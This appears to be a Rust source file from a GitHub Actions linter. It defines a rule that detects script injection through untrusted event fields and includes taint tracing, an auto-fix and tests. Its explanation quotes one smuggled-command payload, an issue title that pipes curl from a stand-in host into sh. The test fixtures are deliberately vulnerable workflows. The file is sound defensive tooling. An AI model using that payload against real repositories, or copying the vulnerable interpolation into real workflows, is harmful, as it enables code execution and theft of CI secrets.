//! Text of a stranger that becomes part of a script.

use plim_diag::{Code, Severity};

use crate::remote::Remote;
use crate::{Audit, Edit, ExpressionAt, Hook, Rule, TextAt, Tier, interpolation, taint};

pub(super) const RULE: Rule = Rule {
    code: Code("script-injection"),
    summary: "text that a stranger writes becomes part of a script",
    why: "An expression is replaced before the shell reads the script. Whoever opens an issue called `\"; curl evil.example | sh #` runs what they like, with the token and the secrets of the job.",
    criterion: "An expression in a `run`, or in an input of a well-known action that runs it as a script (`actions/github-script` and others), whose value can be what anyone may write: titles, bodies, names of branches, messages of commits, names of changed files, in an event that starts the workflow. It is followed through `env`, outputs of steps and jobs, lines that a script appends to `$GITHUB_ENV` and `$GITHUB_OUTPUT`, and matrices. A variable that the shell expands itself is safe, as are lists of files that an action escapes for a shell (`safe_output` of `tj-actions/changed-files`, `list-files: shell` of `dorny/paths-filter`), and what is written by an author for whose association or name a condition asks.",
    remedy: "Hand it over in `env`, and let the shell expand the variable.",
    example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"",
    better: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}",
    severity: Severity::Error,
    tier: Tier::Default,
    hooks: &[Hook::Expression(check)],
};

/// Inputs of actions that are run as a script.
pub(super) const SINKS: [(&str, &str); 16] = [
    ("actions/github-script", "script"),
    ("addnab/docker-run-action", "run"),
    ("amadevus/pwsh-script", "script"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("borales/actions-yarn", "cmd"),
    ("coactions/setup-xvfb", "run"),
    ("cypress-io/github-action", "command"),
    ("devcontainers/ci", "runcmd"),
    ("fifsky/ssh-action", "command"),
    ("jannekem/run-python-script-action", "script"),
    ("mikefarah/yq", "cmd"),
    ("nick-fields/retry", "command"),
    ("nick-invision/retry", "command"),
    ("reactivecircus/android-emulator-runner", "script"),
];

/// Whether the text is run as a script.
pub(super) fn is_script(text: &TextAt<'_>, source: &str) -> bool {
    match (text.key, text.entry) {
        ("run", _) => text.step.is_some(),
        ("with", Some(input)) => {
            let input = input.to_ascii_lowercase();
            let mut sinks = SINKS.iter().filter(|(_, sink)| *sink == input).peekable();
            sinks.peek().is_some()
                && text
                    .step
                    .and_then(|step| Remote::of_step(step.step, source))
                    .is_some_and(|remote| sinks.any(|(name, _)| remote.is(name)))
        }
        _ => false,
    }
}

fn check<'a>(audit: &mut Audit<'a>, at: ExpressionAt<'a>) {
    if !is_script(&at.text, audit.source()) {
        return;
    }
    let Some(trace) = taint::trace(audit, &at) else { return };
    let fix = fix(audit, &at, &trace.source);
    let message = format!("`{}` is written by anyone, and becomes part of a script", trace.source);
    let finding = audit.report(at.span, message);
    for (span, what) in trace.through {
        finding.related(span, what);
    }
    finding.help("hand it over in `env`, and let the shell expand the variable");
    if let Some((name, edits)) = fix {
        finding.unsafe_fix(format!("hand it over in `{name}`"), edits);
    }
}

fn fix<'a>(audit: &Audit<'a>, at: &ExpressionAt<'a>, source: &str) -> Option<(String, Vec<Edit>)> {
    let own = crate::named::path(at.expression.root())?;
    let name = match own.strip_prefix("env.") {
        // What is a variable already keeps its name; case counts for the shell.
        Some(_) => at.expression.source().rsplit('.').next()?.to_owned(),
        None => {
            let tail = source.trim_start_matches("github.event.").trim_start_matches("github.");
            tail.replace(['.', '*', '-'], "_").to_ascii_uppercase()
        }
    };
    let edits = if own.starts_with("env.") {
        interpolation::as_variable(audit, at, &name)
    } else {
        interpolation::into_env(audit, at, &name)
    };
    Some((name, edits?))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{check, check_fix, findings_of};

    #[test]
    fn it_is_followed_through_variables_and_outputs() {
        check(
            &RULE,
            "
            on: [pull_request_target, issue_comment]
            jobs:
              a:
                runs-on: ubuntu-latest
                outputs:
                  title: ${{ steps.read.outputs.title }}
                env:
                  BRANCH: ${{ github.head_ref }}
                steps:
                  - run: git switch \"$BRANCH\"
                  - run: git switch ${{ env.BRANCH }}
                    #                   ^^^^^^^^^^ `github.head_ref` is written by anyone, and becomes part of a script
                  - id: read
                    env: { TITLE: '${{ github.event.pull_request.title }}' }
                    run: |
                      title=\"$TITLE\"
                      echo \"title=$title\" >> \"$GITHUB_OUTPUT\"
                      echo \"LENGTH=$(wc -c <<<$TITLE)\" >> \"$GITHUB_ENV\"
                      echo \"BODY=${{ github.event.comment.body }}\" >> $GITHUB_ENV
                      #              ^^^^^^^^^^^^^^^^^^^^^^^^^
                  - run: echo ${{ env.LENGTH }} ${{ env.BODY }}
                    #                               ^^^^^^^^
                  - uses: actions/github-script@v7
                    with:
                      script: log('${{ steps.read.outputs.title }}')
                      #                ^^^^^^^^^^^^^^^^^^^^^^^^
              b:
                needs: a
                runs-on: ubuntu-latest
                strategy:
                  matrix:
                    name: ['${{ needs.a.outputs.title }}']
                steps:
                  - run: echo ${{ needs.a.outputs.title }}
                    #             ^^^^^^^^^^^^^^^^^^^^^ `github.event.pull_request.title` is written by anyone…
                  - run: echo ${{ matrix.name }} ${{ github.head_ref != 'x' }}
                    #             ^^^^^^^^^^^
                  - run: echo ${{ github.event.pull_request.number }}
                  - run: echo ${{ github.event.discussion.title }}
            ",
        );
    }

    #[test]
    fn what_a_trusted_author_writes_is_not_a_strangers() {
        check(
            &RULE,
            "
            on: issue_comment
            jobs:
              a:
                if: github.event.comment.author_association == 'OWNER' || github.event.comment.author_association == 'MEMBER'
                runs-on: ubuntu-latest
                steps:
                  - run: echo '${{ github.event.comment.body }}'
                  - run: echo '${{ github.event.issue.title }}'
                    #              ^^^^^^^^^^^^^^^^^^^^^^^^
              b:
                runs-on: ubuntu-latest
                steps:
                  - if: contains(fromJSON('[\"OWNER\"]'), github.event.comment.author_association)
                    run: echo '${{ github.event.comment.body }}'
            ",
        );
    }

    #[test]
    fn lists_of_files_that_are_escaped_are_safe_where_they_are_for() {
        check(
            &RULE,
            "
            steps:
              - id: shell
                uses: dorny/paths-filter@v3
                with: { list-files: shell, filters: '' }
              - id: json
                uses: dorny/paths-filter@v3
                with: { list-files: json, filters: '' }
              - id: csv
                uses: dorny/paths-filter@v3
                with: { list-files: csv, filters: '' }
              - id: new
                uses: tj-actions/changed-files@v46
              - id: old
                uses: tj-actions/changed-files@v40
              - run: |
                  lint ${{ steps.shell.outputs.src_files }} ${{ steps.new.outputs.all_changed_files }}
                  lint '${{ steps.json.outputs.src_files }}'
                  #         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^
                  lint ${{ steps.csv.outputs.src_files }}
                  #        ^^^^^^^^^^^^^^^^^^^^^^^^^^^
                  lint ${{ steps.old.outputs.all_changed_files }}
                  #        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
              - uses: actions/github-script@v7
                with:
                  script: |
                    const files = ${{ steps.json.outputs.src_files }}
                    const more = '${{ steps.new.outputs.all_changed_files }}'
                    #                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
            ",
        );
    }

    #[test]
    fn the_path_is_told() {
        let found = findings_of(
            &RULE,
            "on: issues\njobs:\n  a:\n    runs-on: b\n    env: { T: '${{ github.event.issue.body }}' }\n    steps: [run: 'echo ${{ env.T }}']",
        );
        let related = &found[0].diagnostic.related;
        assert_eq!(related[0].message, "into the variable `T`");
    }

    #[test]
    fn it_is_moved_into_the_environment() {
        let head = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n";
        check_fix(
            &RULE,
            &format!("{head}      - run: echo \"${{{{ github.event.issue.title }}}}\"\n"),
            &format!(
                "{head}      - env:\n          ISSUE_TITLE: ${{{{ github.event.issue.title }}}}\n        run: echo \"${{ISSUE_TITLE}}\"\n"
            ),
        );
        check_fix(
            &RULE,
            &format!(
                "{head}      - run: echo ${{{{ env.T }}}}\n        env:\n          T: ${{{{ github.event.issue.title }}}}\n"
            ),
            &format!(
                "{head}      - run: echo \"${{T}}\"\n        env:\n          T: ${{{{ github.event.issue.title }}}}\n"
            ),
        );
    }
}
